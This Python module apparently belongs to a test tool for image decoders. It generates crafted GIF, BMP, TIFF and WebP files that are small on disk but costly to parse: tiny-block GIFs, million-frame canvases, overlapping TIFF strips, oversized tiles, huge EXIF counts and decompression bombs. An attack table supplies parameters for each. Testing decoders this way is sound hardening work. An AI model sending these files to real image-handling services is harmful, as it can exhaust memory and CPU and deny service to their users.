"""Writes GIFs, BMPs, TIFFs and WebPs that cost much for their bytes."""

import struct
import zlib
from io import BytesIO

from PIL import Image

from . import jpeg
from .attack import MOST_BYTES, MOST_SIDE, Attack

SMALL = Image.linear_gradient("L")


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def gif_blocks(label: int, size: int, where: str) -> bytes:
    """Return a GIF with an extension of blocks of one size."""
    whole = encoded(SMALL, "GIF")
    blocks = (bytes([size]) + bytes(size)) * ((MOST_BYTES - len(whole) - 9) // (size + 1))
    at = whole.index(b"\x2c\0\0\0\0") if where == "ahead" else len(whole) - 1
    return whole[:at] + bytes([0x21, label]) + blocks + b"\0" + whole[at:]


def gif_extensions(label: int, where: str) -> bytes:
    """Return a GIF with as many extensions as fit."""
    whole, each = encoded(SMALL, "GIF"), bytes([0x21, label, 1, 0, 0])
    at = whole.index(b"\x2c\0\0\0\0") if where == "ahead" else len(whole) - 1
    return whole[:at] + each * ((MOST_BYTES - len(whole)) // len(each)) + whole[at:]


def gif_junk(where: str) -> bytes:
    """Return a GIF with bytes between its blocks."""
    whole = encoded(SMALL, "GIF")
    at = whole.index(b"\x2c\0\0\0\0") if where == "ahead" else len(whole) - 1
    return whole[:at] + b"\1" * (MOST_BYTES - len(whole)) + whole[at:]


def gif_small_blocks(side: int, size: int) -> bytes:
    """Return a GIF whose pixels are in blocks of a few bytes."""
    whole = encoded(Image.effect_noise((side, side), 60), "GIF")
    at = whole.index(b"\x2c\0\0\0\0") + 11
    data = bytearray()
    while whole[at]:
        data += whole[at + 1 : at + 1 + whole[at]]
        at += 1 + whole[at]
    start = whole[: whole.index(b"\x2c\0\0\0\0") + 11]
    blocks = [data[n : n + size] for n in range(0, len(data), size)]
    return start + b"".join(bytes([len(block)]) + block for block in blocks) + b"\0;"


def gif_frames(side: int, count: int) -> bytes:
    """Return a GIF of one pixel a frame on a large canvas."""
    head = b"GIF89a" + struct.pack("<HH", side, side) + b"\x80\0\0" + bytes(6)
    each = b"\x2c" + struct.pack("<4HB", 0, 0, 1, 1, 0) + b"\2\2\x44\1\0"
    return head + each * count + b";"


def bmp_rle(side: int, bits: int, run: int) -> bytes:
    """Return a run-length encoded BMP whose runs are short."""
    compression = {8: 1, 4: 2}[bits]
    data = (bytes([run, 1]) * (-(-side // run)) + b"\0\0") * side
    data = data[: MOST_BYTES - 2000] + b"\0\1"
    colours = bytes(4 * 2**bits)
    offset = 54 + len(colours)
    head = struct.pack("<2sI4xI", b"BM", offset + len(data), offset)
    head += struct.pack("<IiiHHIIiiII", 40, side, side, 1, bits, compression, len(data), 2835, 2835,
                        2**bits, 0)  # fmt: skip

    return head + colours + data


def ifd(entries: list[tuple[int, int, list[int]]], rest: bytes, next_at: int = 0) -> bytes:
    """Return a TIFF of one page; `rest` lies at offset 8, ahead of the directory and its values."""
    at = 8 + len(rest) + len(rest) % 2
    values_at = at + 2 + 12 * len(entries) + 4
    table, values = struct.pack("<H", len(entries)), b""
    for tag, kind, numbers in sorted(entries):
        packed = struct.pack(f"<{len(numbers)}{'H' if kind == 3 else 'I'}", *numbers)
        if len(packed) <= 4:
            table += struct.pack("<HHI4s", tag, kind, len(numbers), packed.ljust(4, b"\0"))
        else:
            table += struct.pack("<HHII", tag, kind, len(numbers), values_at + len(values))
            values += packed
    return b"".join(
        [struct.pack("<2sHI", b"II", 42, at), rest, bytes(len(rest) % 2), table,
         struct.pack("<I", next_at), values]
    )  # fmt: skip


def tags(width: int, height: int, compression: int) -> list[tuple[int, int, list[int]]]:
    return [(256, 4, [width]), (257, 4, [height]), (258, 3, [8, 8, 8]), (259, 3, [compression]),
            (262, 3, [2]), (277, 3, [3])]  # fmt: skip


def tiff_strips(width: int, count: int, compression: int) -> bytes:
    """Return a TIFF of one row a strip, all of which lie at one place."""
    row = bytes(3 * width)
    row = zlib.compress(row) if compression == 8 else row
    entries = [*tags(width, count, compression), (273, 4, [8] * count), (278, 4, [1]),
               (279, 4, [len(row)] * count)]  # fmt: skip
    return ifd(entries, row)


def tiff_overlapping(count: int, size: int) -> bytes:
    """Return a TIFF whose strips have all of the file as their data."""
    rest = zlib.compress(bytes(3 * 64)) + bytes(size)
    entries = [*tags(64, count, 8), (273, 4, [8] * count), (278, 4, [1]),
               (279, 4, [len(rest)] * count)]  # fmt: skip
    return ifd(entries, rest)


def tiff_tile(side: int, compression: int) -> bytes:
    """Return a TIFF of 64 x 64 pixels in one tile that is much larger."""
    deflater = zlib.compressobj(9)
    rest = b"".join([*(deflater.compress(bytes(3 * side)) for _ in range(side)), deflater.flush()])
    entries = [*tags(64, 64, compression), (322, 4, [side]), (323, 4, [side]), (324, 4, [8]),
               (325, 4, [len(rest)])]  # fmt: skip
    return ifd(entries, rest)


def tiff_tags(count: int, kind: int, size: int) -> bytes:
    """Return a TIFF of many tags, whose values overlap."""
    more = b"".join(struct.pack("<HHII", 40000 + n % 25000, kind, size, 8) for n in range(count))
    rest = bytes(max(12 * 64 * 64, 8 * size))
    whole = [*tags(64, 64, 1), (273, 4, [8]), (278, 4, [64]), (279, 4, [12288])]
    small = ifd(whole, rest)
    at = int.from_bytes(small[4:8], "little")
    table = small[at + 2 : at + 2 + 12 * len(whole)]
    head = struct.pack("<H", len(whole) + count)
    values = small[at + 2 + 12 * len(whole) + 4 :]
    shift = 12 * count
    table = (
        table[: 2 * 12] + struct.pack("<HHII", 258, 3, 3, at + 6 + len(table) + shift) + table[36:]
    )
    return small[:at] + head + table + more + bytes(4) + values


def tiff_exif(count: int) -> bytes:
    """Return a TIFF whose EXIF has a tag of many values."""
    inner = struct.pack("<HHHIII", 1, 40000, 5, count, 8 + 18, 0) + bytes(8 * count)
    strip_at = 8 + len(inner)
    entries = [*tags(64, 64, 1), (273, 4, [strip_at]), (278, 4, [64]), (279, 4, [12288]),
               (34665, 4, [8])]  # fmt: skip
    return ifd(entries, inner + bytes(12288))


def tiff_jpeg(strips: int, count: int, write: str) -> bytes:
    """Return a TIFF whose strips are JPEGs of 1000 x 1000 pixels in many scans of a few bytes."""
    side = 1000  # libtiff refuses a progressive JPEG that takes more than 10 MB
    strip = {"arithmetic": jpeg.arithmetic, "progressive": jpeg.scans}[write](side, count, 3)
    places = [8 + len(strip) * n for n in range(strips)]
    entries = [*tags(side, side * strips, 7), (273, 4, places), (278, 4, [side]),
               (279, 4, [len(strip)] * strips)]  # fmt: skip
    return ifd(entries, strip * strips)


def tiff_pages(count: int, size: int) -> bytes:
    """Return a TIFF of many thumbnails ahead of its picture, with one large tag for all."""
    rest = bytes(size)
    thumbnail = struct.pack("<HHII", 254, 4, 1, 1) + struct.pack("<HHII", 40000, 7, size, 8)
    at, directories = 8 + size, b""
    for _ in range(count):
        directories += struct.pack("<H", 2) + thumbnail + struct.pack("<I", at + 30)
        at += 30
    last = ifd([*tags(64, 64, 1), (273, 4, [8]), (278, 4, [64]), (279, 4, [12288])], b"")[8:]
    last = last.replace(struct.pack("<HHI", 258, 3, 3) + last[2 + 24 + 8 : 2 + 36],
                        struct.pack("<HHII", 258, 3, 3, at + 2 + 12 * 9 + 4))  # fmt: skip
    return struct.pack("<2sHI", b"II", 42, 8 + size) + rest + directories + last


def tiff_bomb(compression: str, mode: str, megapixels: int) -> bytes:
    """Return a TIFF of one colour."""
    side = int((megapixels * 1e6) ** 0.5)
    return encoded(Image.new(mode, (side, side)), "TIFF", compression=compression)


def webp_chunks(size: int) -> bytes:
    """Return a WebP with as many chunks of a kind that nobody knows as fit."""
    whole = encoded(SMALL.convert("RGB"), "WEBP", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0")
    each = b"abcd" + struct.pack("<I", size) + bytes(size)
    body = whole[8:] + each * ((MOST_BYTES - len(whole)) // len(each))
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_flat(side: int, lossless: int, mode: str) -> bytes:
    return encoded(Image.new(mode, (side, side)), "WEBP", lossless=bool(lossless), method=0)


def webp_frames(side: int, count: int) -> bytes:
    frames = [Image.new("RGB", (side, side), (n % 256, n // 256, 0)) for n in range(count)]
    return encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:], method=0)


def webp_exif(kind: int, count: int) -> bytes:
    """Return a WebP with an orientation in EXIF of many values."""
    entry = struct.pack(">HHII", 274, kind, count, 26)
    tiff = b"MM\0*\0\0\0\x08\0\x01" + entry + bytes(4) + b"\0\0\0\1" * (2 * count + 8)
    return encoded(SMALL.convert("RGB"), "WEBP", exif=tiff)


ATTACKS = (
    Attack("GIF", "an extension of small blocks", gif_blocks, label=(0xFE, 0xFF, 0xF9),
           size=(1, 20, 255), where=("ahead", "behind")),
    Attack("GIF", "extensions", gif_extensions, label=(0xFE, 0xFF, 0x01),
           where=("ahead", "behind")),
    Attack("GIF", "bytes between blocks", gif_junk, where=("ahead", "behind")),
    Attack("GIF", "pixels in small blocks", gif_small_blocks, side=(2000,), size=(1, 2, 20)),
    Attack("GIF", "frames", gif_frames, side=(MOST_SIDE, 64), count=(1_300_000, 1000, 2)),
    Attack("BMP", "short runs", bmp_rle, side=(3300, 1000, MOST_SIDE), bits=(8, 4),
           run=(1, 4, 255)),
    Attack("TIFF", "strips of one row", tiff_strips, width=(16, 400), count=(2_000_000, 100_000),
           compression=(1, 8)),
    Attack("TIFF", "strips upon each other", tiff_overlapping, count=(20_000, 1000),
           size=(20_000_000, 1_000_000)),
    Attack("TIFF", "a tile larger than the picture", tiff_tile, side=(16_384, 7168),
           compression=(8,)),
    Attack("TIFF", "tags", tiff_tags, count=(25_000, 1000), kind=(5, 7, 3, 10),
           size=(100, 10_000, 800)),
    Attack("TIFF", "thumbnails with one large tag", tiff_pages, count=(990, 100),
           size=(20_000_000, 1_000_000)),
    Attack("TIFF", "scans of JPEGs in its strips", tiff_jpeg, strips=(50, 2), count=(90, 15),
           write=("arithmetic", "progressive")),
    Attack("TIFF", "values of EXIF", tiff_exif, count=(2_500_000, 200_000)),
    Attack("TIFF", "one colour", tiff_bomb,
           compression=("tiff_lzw", "tiff_adobe_deflate", "packbits", "jpeg", "lzma", "zstd"),
           mode=("RGB", "RGBA", "CMYK"), megapixels=(50,)),
    Attack("TIFF", "one colour of two", tiff_bomb, compression=("group4", "group3"), mode=("1",),
           megapixels=(50,)),
    Attack("WEBP", "chunks", webp_chunks, size=(0, 2, 100)),
    Attack("WEBP", "one colour", webp_flat, side=(MOST_SIDE,), lossless=(1, 0),
           mode=("RGBA", "RGB")),
    Attack("WEBP", "frames", webp_frames, side=(256, 2048), count=(300, 10)),
    Attack("WEBP", "values of the orientation", webp_exif, kind=(5, 10, 3),
           count=(2_500_000, 60_000)),
)  # fmt: skip
